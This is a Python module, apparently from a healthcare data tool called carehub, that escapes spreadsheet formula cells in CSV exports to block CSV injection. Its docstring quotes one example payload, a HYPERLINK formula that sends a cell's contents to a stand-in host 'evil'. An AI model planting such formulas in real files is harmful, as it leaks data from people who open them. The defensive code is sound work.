"""Cells that a spreadsheet opens as text, never as a formula (CSV injection).

Excel, LibreOffice and Google Sheets evaluate a cell that begins with `=`, `+`, `-` or
`@` (and strip a leading tab or carriage return before looking), so a member id or a
service code such as `=HYPERLINK("http://evil/?"&A1)` in an upload would run when a
plan analyst opens an export. Every CSV that people download or open goes through
`safe_cell`: such a cell gets a leading apostrophe, which spreadsheets show as text and
hide. Plain numbers (`-12.5`, `+3`) are left alone; they are not formulas.

carehub's own importers read a file it wrote back (a ranked list from `carehub
eligibility`) through `unescape_cell`, so ids survive the round trip.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _is_formula(text: str) -> bool:
    return text.startswith(FORMULA_START) and _NUMBER.fullmatch(text) is None


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet would evaluate; then `'` + text."""
    if isinstance(value, str) and _is_formula(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def unescape_cell(text: str) -> str:
    """Undo `safe_cell` on text read back from a CSV carehub wrote."""
    if text.startswith("'") and _is_formula(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, handle: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
